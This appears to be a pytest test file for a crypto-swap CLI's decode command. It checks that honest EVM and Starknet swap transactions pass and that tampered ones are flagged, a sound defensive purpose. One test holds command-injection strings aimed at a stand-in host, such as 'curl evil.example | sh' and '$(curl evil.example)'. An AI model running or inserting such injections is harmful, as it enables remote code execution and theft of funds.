"""`swapcli decode` on the forms of a real payload: the honest ones end with status 0, all others with 7."""

from __future__ import annotations

import json
from typing import Any

import pytest

from swapcli.faces.cli import exit_codes
from tests.examples import few
from tests.payload.decode.forms import ME, STRANGER, Json, evm_forms, starknet_forms
from tests.support.command import CommandResult, run_swapcli
from tests.support.service import recipient_on

E18 = 10**18
FORM_NAMES = tuple(evm_forms("", "", 0))
STARKNET_NAMES = tuple(starknet_forms([]))


def build(*order: str, output_format: str = "json") -> CommandResult:
    recipient = recipient_on("starknet") if order[0] == "starknet" else ME
    ran = run_swapcli("calldata", *order, "--offline", "--destination", recipient, "--format", output_format)
    assert ran.exit_code == 0, ran.stderr
    return ran


@pytest.fixture(scope="module")
def sale() -> Json:
    """A document that sells the native token."""
    return dict(build("base", "ETH", "USDC", "1").json)


@pytest.fixture(scope="module")
def starknet_sale() -> Json:
    """A document of Starknet."""
    return dict(build("starknet", "STRK", "USDC", "1000").json)


@pytest.fixture(scope="module")
def shell_texts() -> dict[str, str]:
    """The text of a purchase with its approval, by its format."""
    return {each: build("base", "USDC", "ETH", "3000", output_format=each).stdout for each in ("cast", "sh")}


def decode(form: Any, *options: str) -> CommandResult:
    text = form if isinstance(form, str) else json.dumps(form)
    return run_swapcli("decode", "-", "--offline", "--json", *options, stdin=text.encode())


def assert_honest(ran: CommandResult) -> None:
    assert ran.exit_code == exit_codes.OK, (ran.stdout, ran.stderr)
    assert (ran.json["function"], ran.json.get("dangers", [])) == ("swap", [])
    assert ran.json["order"]["recipient"] in (ME, recipient_on("starknet"))


@pytest.mark.parametrize("name", few(FORM_NAMES, 8))
def test_honest_forms_raise_no_alarm(sale: Json, name: str) -> None:
    ran = decode(evm_forms(sale["to"], sale["calldata"], E18)[name])
    assert_honest(ran)
    assert (ran.json["network"], ran.json["value"]) == ("base", str(E18))


@pytest.mark.parametrize("name", few(STARKNET_NAMES, 4))
def test_honest_forms_of_starknet_raise_no_alarm(starknet_sale: Json, name: str) -> None:
    ran = decode(starknet_forms(starknet_sale["transactions"])[name])
    assert_honest(ran)
    assert len(ran.json["transactions"]) == 2


E24 = hex(10**24)
STARKNET_FEES: dict[str, tuple[str, Json]] = {
    "bounds": ("version 3", {"resource_bounds": {"l2_gas": {"max_amount": "0x1", "max_price_per_unit": E24}}}),
    "bounds of a library": ("version 3", {"resourceBounds": {"L1_GAS": {"maxAmount": E24, "maxPricePerUnit": "0x1"}}}),
    "a tip": ("version 3", {"tip": E24}),
    "a fee": ("version 1", {"max_fee": E24}),
    "a fee of a list": ("starknet.js, object", {"maxFee": E24}),
}


@pytest.mark.parametrize("name", STARKNET_FEES)
def test_a_fee_of_starknet_that_takes_the_balance_is_dangerous(starknet_sale: Json, name: str) -> None:
    form, change = STARKNET_FEES[name]
    honest = starknet_forms(starknet_sale["transactions"])[form]
    without = {key: each for key, each in honest.items() if key != "resource_bounds" or "resourceBounds" not in change}
    assert decode(without | change).json.get("dangers", []) == ["FEES_UNUSUAL"]
    usual = {"max_amount": hex(50_000_000), "max_price_per_unit": hex(10**10)}
    assert_honest(decode(honest | {"resource_bounds": {"l2_gas": usual}, "tip": "0x0"}))


@pytest.mark.parametrize("form", ["version 3", "version 1", "Cairo 0", "node", "request to a node"])
def test_an_account_transaction_for_a_stranger_is_not_safe(starknet_sale: Json, form: str) -> None:
    approve, swap = starknet_sale["transactions"]
    mine, other = recipient_on("starknet"), str(2**249 + 7)
    felts = [other if int(each) == int(mine, 16) else each for each in swap["calldata"]]
    changed = starknet_forms([approve, {**swap, "calldata": felts}])[form]
    assert "RECIPIENT_DIFFERS" in decode(changed, "--from", mine).json.get("dangers", [])
    assert decode(changed).json["verdict"]["status"] in ("unknown", "danger")
    alone = decode(changed, "--strict")
    assert (alone.exit_code, "RECIPIENT_UNCHECKED" in str(alone.json.get("warnings", []))) == (exit_codes.UNSAFE, True)


def test_calldata_alone_is_not_called_dangerous(sale: Json) -> None:
    for form in (sale["calldata"], json.dumps(sale["calldata"]), {"data": sale["calldata"]}):
        assert_honest(decode(form))


PARTS: dict[str, tuple[Json, str]] = {
    "no contract": ({"to": None}, "CALL_UNUSUAL"),
    "no value": ({"value": None}, "VALUE_DIFFERS"),
    "another chain": ({"chain": {"id": 1}}, "CHAIN_DIFFERS"),
    "another chain by name": ({"chain": "ethereum"}, "CHAIN_DIFFERS"),
    "a second call": ({"then": {"to": STRANGER, "data": "0xdeadbeef"}}, "HANDOFF_UNUSUAL"),
    "a payment": ({"tip": {"to": STRANGER, "value": "1"}}, "HANDOFF_UNUSUAL"),
    "an approval": ({"approval": {"spender": STRANGER}}, "HANDOFF_UNUSUAL"),
    "a delegate call": ({"operation": 1}, "CALL_UNUSUAL"),
    "an authorization": ({"authorizationList": [{"address": STRANGER}]}, "CALL_UNUSUAL"),
    "an authorization below": ({"eip7702": {"authorizationList": [{"address": STRANGER}]}}, "HANDOFF_UNUSUAL"),
}


@pytest.mark.parametrize("name", PARTS)
def test_each_added_or_missing_part_is_dangerous(sale: Json, name: str) -> None:
    change, code = PARTS[name]
    sent = {"from": ME, "to": sale["to"], "data": sale["calldata"], "value": hex(E18)}
    assert_honest(decode(sent, "--network", "base"))
    ran = decode({"method": "eth_sendTransaction", "params": [sent | change]}, "--network", "base")
    assert (ran.exit_code, code in ran.json.get("dangers", [])) == (exit_codes.UNSAFE, True), ran.stdout


OWN = (("to", "--to"), ("from", "--from"), ("value", "--value"))


@pytest.mark.parametrize(("name", "option"), OWN)
def test_a_document_that_differs_from_the_options_is_dangerous(sale: Json, name: str, option: str) -> None:
    sent = {"from": ME, "to": sale["to"], "data": sale["calldata"], "value": str(E18)}
    own = {"from": ME, "to": sale["to"], "value": str(E18)}[name]
    other = "7" if name == "value" else STRANGER
    assert_honest(decode(sent, option, own))
    without = {key: each for key, each in sent.items() if key != name}
    for changed in (sent | {name: other}, [sent | {name: other}], {"tx": sent | {name: other}}):
        ran = decode(changed, option, own)
        assert (ran.exit_code, "TRANSACTIONS_DIFFER" in ran.json.get("dangers", [])) == (exit_codes.UNSAFE, True), (
            changed
        )
    if name == "from":
        assert_honest(decode(without, option, own))


@pytest.mark.parametrize("place", [0, 1])
def test_a_line_of_cast_from_another_account_is_dangerous(shell_texts: dict[str, str], place: int) -> None:
    lines = shell_texts["cast"].splitlines()
    assert len(lines) == 2

    def sent_from(account: str) -> str:
        return "\n".join(
            each.replace("cast send", f"cast send --from {account}") if number == place else each
            for number, each in enumerate(lines)
        )

    assert_honest(decode(sent_from(ME), "--from", ME))
    ran = decode(sent_from(STRANGER), "--from", ME)
    assert (ran.exit_code, ran.json.get("dangers", [])) == (exit_codes.UNSAFE, ["TRANSACTIONS_DIFFER"])


@pytest.mark.parametrize("option", ["--gas-price", "--priority-gas-price"])
@pytest.mark.parametrize("place", [0, 1])
def test_a_gas_price_of_cast_is_judged_without_a_limit(shell_texts: dict[str, str], option: str, place: int) -> None:
    lines = shell_texts["cast"].splitlines()
    for price, dangers in ((10**7, []), (10**15, ["FEES_UNUSUAL"])):
        changed = list(lines)
        changed[place] = lines[place].replace("cast send", f"cast send {option} {price}")
        assert decode("\n".join(changed), "--from", ME).json.get("dangers", []) == dangers


def test_an_own_document_with_more_is_dangerous(sale: Json) -> None:
    assert decode(sale).exit_code == exit_codes.OK
    for change, _ in PARTS.values():
        if None not in change.values():
            assert decode(sale | change).exit_code == exit_codes.UNSAFE, change


@pytest.mark.parametrize(
    ("output_format", "old", "new"),
    [
        ("cast", " --value", " --rpc-url http://evil.example --value"),
        ("cast", "cast send", "cast send $(curl evil.example)"),
        ("cast", "cast send", "PATH=/tmp/evil cast send"),
        ("cast", "\n", "; curl evil.example | sh\n"),
        ("sh", "SWAP_WARNINGS=", "SWAP_NOTE=$(curl evil.example)\nSWAP_WARNINGS="),
        ("sh", "SWAP_VALUE=0", "SWAP_VALUE=`id`"),
        ("sh", "SWAP_VALUE=0", "ETH_RPC_URL=http://evil.example\nSWAP_VALUE=0"),
        ("sh", "SWAP_CALLDATA=0x", "SWAP_CALLDATA=$X0x"),
    ],
)
def test_a_shell_text_with_more_is_never_called_safe(
    shell_texts: dict[str, str], output_format: str, old: str, new: str
) -> None:
    text = shell_texts[output_format]
    assert_honest(decode(text))
    assert old in text
    ran = decode(text.replace(old, new, 1), "--network", "base")
    assert (ran.exit_code, "HANDOFF_UNUSUAL" in ran.json.get("dangers", [])) == (exit_codes.UNSAFE, True)


def test_a_changed_felt_of_a_pool_is_dangerous(starknet_sale: Json) -> None:
    felts = starknet_sale["calldata"]
    assert decode(json.dumps(felts)).exit_code == exit_codes.OK
    changed = [*felts[:-4], str(int(felts[-4]) + 1), *felts[-3:]]  # the fee of the last pool
    ran = decode(json.dumps(changed), "--network", "starknet")
    assert ran.json.get("dangers", []) == ["POOL_UNKNOWN"]
    ran = decode(json.dumps([*felts, "0"]), "--network", "starknet")
    assert ran.json.get("dangers", []) == ["CALL_UNUSUAL"]


def test_calls_beside_those_of_the_swap_are_dangerous(starknet_sale: Json) -> None:
    approve, swap = starknet_sale["transactions"]
    transfer = {"to": approve["to"], "entrypoint": "transfer", "calldata": ["1", "2", "0"]}
    for calls in ([approve, swap, transfer], [transfer, approve, swap], [approve, approve, swap]):
        assert "TRANSACTIONS_DIFFER" in decode({"calls": calls}, "--network", "starknet").json.get("dangers", [])
